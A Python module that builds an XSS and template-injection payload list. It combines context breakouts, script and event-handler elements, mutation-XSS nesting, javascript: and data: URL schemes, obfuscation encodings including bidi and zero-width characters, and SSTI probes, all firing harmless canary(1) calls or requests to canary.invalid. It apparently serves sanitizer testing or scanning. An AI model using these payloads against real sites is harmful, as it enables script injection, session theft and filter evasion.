"""Script payloads, made by rule: how to get out of where one stands, what to put there, what to call, how to write it.

Each, where it runs, calls `canary(…)`, opens a dialog, or asks a host called canary.invalid. `{{7*7191}}` and its kind
would show 50337.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALLS = (
    "canary(1)",
    "alert(1)",
    "top.canary(1)",
    "canary`1`",
    "self['can'+'ary'](1)",
    "fetch('//canary.invalid/')",
    "setTimeout('canary(1)')",
    "import('//canary.invalid/x.js')",
    "location='//canary.invalid/'",
    "(()=>canary(1))()",
)
OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</select>",
    "</bdi></p>",
    "]]>",
    '"',
    "'",
    "`",
    "</svg>",
)
"""Ends of what one may stand in: text, attributes, comments, raw text."""
ELEMENTS = (
    "<script>{0}</script>",
    "<script src=//canary.invalid/x.js></script>",
    "<script src=data:text/javascript,{0}></script>",
    "<svg><script>{0}</script></svg>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<style>@import '//canary.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<base href=//canary.invalid/>",
    "<form action=//canary.invalid/><input name=q></form>",
    "<template shadowrootmode=open><img src=x onerror={0}></template>",
    "<xss style='animation:x 1s' onanimationstart={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={0} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{0}><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:{0}></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{0}</script></svg>#x'/></svg>",
    "<math><a xlink:href=javascript:{0}>x</a></math>",
    "<math href=javascript:{0}>x</math>",
    "<body onload={0}>",
    "<img src=//canary.invalid/x.png>",
    "<video src=x onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<video><source src=x onerror={0}></video>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<button form=x formaction=javascript:{0}>x</button>",
    "<div popover id=p onbeforetoggle={0}>x</div>",
    "<div hx-get=/keys hx-trigger=load hx-on::load={0}>x</div>",
    "<div hx-on:htmx:load={0} data-hx-on:load={0}>x</div>",
    "<div hx-get=//canary.invalid/ hx-trigger=load>x</div>",
    "<a href=javascript:{0} autofocus>x</a>",
)
EVENTS = (
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onfocusin",
    "onpointerover",
    "onauxclick",
    "oncopy",
    "oncut",
    "ondrag",
    "onkeydown",
    "onscroll",
    "onwheel",
    "onanimationend",
    "ontransitionend",
    "onpageshow",
    "onhashchange",
    "onresize",
    "onbeforeprint",
    "onselectstart",
    "oncontentvisibilityautostatechange",
    "onscrollend",
    "onsecuritypolicyviolation",
    "onslotchange",
    "onloadstart",
    "onformdata",
)
BEARERS = ("div", "a", "svg", "bdi", "x-y", "select")
NESTED = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={0}>">',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    '<math><mi><table><mglyph><style><math><table id="</table>"><img src onerror={0}">',
    "<svg><desc><p title='</desc></svg><img src=x onerror={0}>'>",
    "<title><a title='</title><img src=x onerror={0}>'>",
    "<textarea><p title='</textarea><svg onload={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<!-- --!><img src=x onerror={0}> -->",
    "<![CDATA[><img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><svg onload={0}>",
    "<select><template><img src=x onerror={0}></template></select>",
    "<table><tr><td><svg><td><img src=x onerror={0}>",
    "<svg><style>&lt;img src=x onerror={0}&gt;</style></svg>",
    "<option><style></option></select><img src=x onerror={0}></style>",
)
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "javascript://%0a{0}",
    "javascript:%61lert(1)//{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuY2FuYXJ5KDEpPC9zY3JpcHQ+#{0}",
    "data:image/svg+xml,<svg onload={0}>",
    "blob:javascript:{0}",
    "feed:javascript:{0}",
    "view-source:javascript:{0}",
    "http:javascript:{0}",
    'https://x.example/"onfocus={0} autofocus x="',
    "https://x.example/'><img src=x onerror={0}>",
    "//canary.invalid/{0}",
    "https:\\\\canary.invalid\\{0}",
    'http://x.example/#"><svg onload={0}>',
)
TEMPLATES = (
    "{{7*7191}}",
    "{%print(7*7191)%}",
    "${7*7191}",
    "#{7*7191}",
    "<%= 7*7191 %>",
    "{{constructor.constructor('canary(1)')()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "{{page|safe}}",
    "{{'<script>canary(1)</script>'|safe}}",
    "{{self._TemplateReference__context}}",
    "${{<%[%'\"}}%\\",
    "[[${7*7191}]]",
    "*{7*7191}",
    "@(7*7191)",
    "{#7*7191#}",
    "{{=7*7191}}",
)


def _bare() -> Iterator[tuple[str, bool]]:
    """Each with whether it may be written in other ways."""
    for k, (form, out) in enumerate(itertools.product((*ELEMENTS, *NESTED), OUT)):
        yield out + form.format(CALLS[k % len(CALLS)]), not out
    for k, (event, bearer) in enumerate(itertools.product(EVENTS, BEARERS)):
        yield f"{OUT[k % len(OUT)]}<{bearer} {event}={CALLS[k % len(CALLS)]} tabindex=0 autofocus>x</{bearer}>", False
        yield f"{OUT[11 + k % 3]} {event}={CALLS[k % len(CALLS)]} autofocus tabindex=0 x={OUT[11 + k % 3]}", False
    yield from ((scheme.format(call), False) for scheme, call in itertools.product(SCHEMES, CALLS))
    yield from ((out + form, False) for form, out in itertools.product(TEMPLATES, OUT[:6]))


def _written(payload: str) -> Iterator[str]:
    """The same in other ways: case, entities, escapes, look-alikes, steering characters, blanks, open ends."""
    yield "".join(c.upper() if k % 2 else c for k, c in enumerate(payload.partition("=")[0])) + "".join(
        payload.partition("=")[1:]
    )
    yield "".join(f"&#{ord(c)};" for c in payload)
    yield payload.replace("<", "&lt;").replace(">", "&gt;")
    yield payload.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield payload.replace("<", "%3C").replace(">", "%3E")
    yield payload.replace("<", "\\u003c").replace(">", "\\x3e")
    yield payload.replace("<", "＜").replace(">", "＞")
    yield payload.replace("<", "<\u200b").replace("=", "\u202e=")
    yield payload.replace("<", "\u202e<\u2066").replace(">", ">\u2069")
    yield payload.replace(" ", "/").replace("<", "<\t", 0)
    yield payload.replace(" ", "\x0c")
    yield payload.removesuffix(">") + " //"
    yield "<" + payload
    yield payload + "\U000e0041" + payload


def payloads(limit: int | None = None) -> list[str]:
    """All, each once, or `limit` of them from all over the list. One line each, and no two pieces of blank."""
    every: dict[str, None] = {}
    for bare, other in _bare():
        for each in (bare, *(_written(bare) if other else ())):
            every.setdefault(each.replace("\n", " ").strip() or "x")
    made = list(every)
    return made if limit is None else [made[k * len(made) // limit] for k in range(limit)]
